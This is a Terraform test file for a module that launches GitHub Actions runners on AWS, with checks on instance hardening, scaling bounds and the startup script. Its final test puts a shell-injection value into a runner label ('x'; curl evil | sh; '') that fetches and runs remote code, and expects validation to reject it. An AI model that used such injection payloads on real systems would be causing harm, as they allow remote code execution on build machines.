mock_provider "aws" {
  mock_data "aws_iam_policy_document" {
    defaults = { json = "{}" }
  }
  mock_data "aws_partition" {
    defaults = { partition = "aws" }
  }
  mock_data "aws_region" {
    defaults = { region = "eu-west-3" }
  }
}

variables {
  name           = "builders"
  network_id     = "vpc-1"
  subnet_ids     = ["subnet-a", "subnet-b"]
  machine_type   = "m6i.xlarge"
  min            = 1
  max            = 4
  runner_labels  = ["builders", "linux"]
  repository_url = "https://github.com/acme/ultimate"
  token_secret   = "ci/runner-token"
}

run "one_job_on_a_closed_machine" {
  command = plan

  assert {
    condition     = aws_launch_template.this.instance_initiated_shutdown_behavior == "terminate" && aws_launch_template.this.instance_market_options[0].market_type == "spot"
    error_message = "Shutting down ends the instance; spot by default."
  }
  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_tokens == "required" && !tobool(aws_launch_template.this.network_interfaces[0].associate_public_ip_address) && tobool(aws_launch_template.this.block_device_mappings[0].ebs[0].encrypted)
    error_message = "IMDSv2, no public address, encrypted volume."
  }
  assert {
    condition     = aws_autoscaling_group.this.min_size == 1 && aws_autoscaling_group.this.max_size == 4 && aws_autoscaling_group.this.protect_from_scale_in
    error_message = "Within its bounds, and never scaled in during a job."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "scope='repos/acme/ultimate'") && strcontains(base64decode(aws_launch_template.this.user_data), "labels='[\"builders\",\"linux\"]'")
    error_message = "The start script knows repository and labels."
  }
}

run "an_organisation_on_its_own_server" {
  command = plan

  variables {
    repository_url = "https://git.acme.example/platform"
    machine_type   = "c7g.large"
    spot           = false
  }

  assert {
    condition     = local.api == "https://git.acme.example/api/v3" && local.scope == "orgs/platform" && local.architecture == "arm64"
    error_message = "Enterprise Server's API, the organisation's scope, an ARM image."
  }
  assert {
    condition     = length(aws_launch_template.this.instance_market_options) == 0
    error_message = "On demand when asked."
  }
}

run "a_label_cannot_leave_the_quotes_of_the_script" {
  command = plan

  variables {
    runner_labels = ["x'; curl evil | sh; '"]
  }

  expect_failures = [var.runner_labels]
}
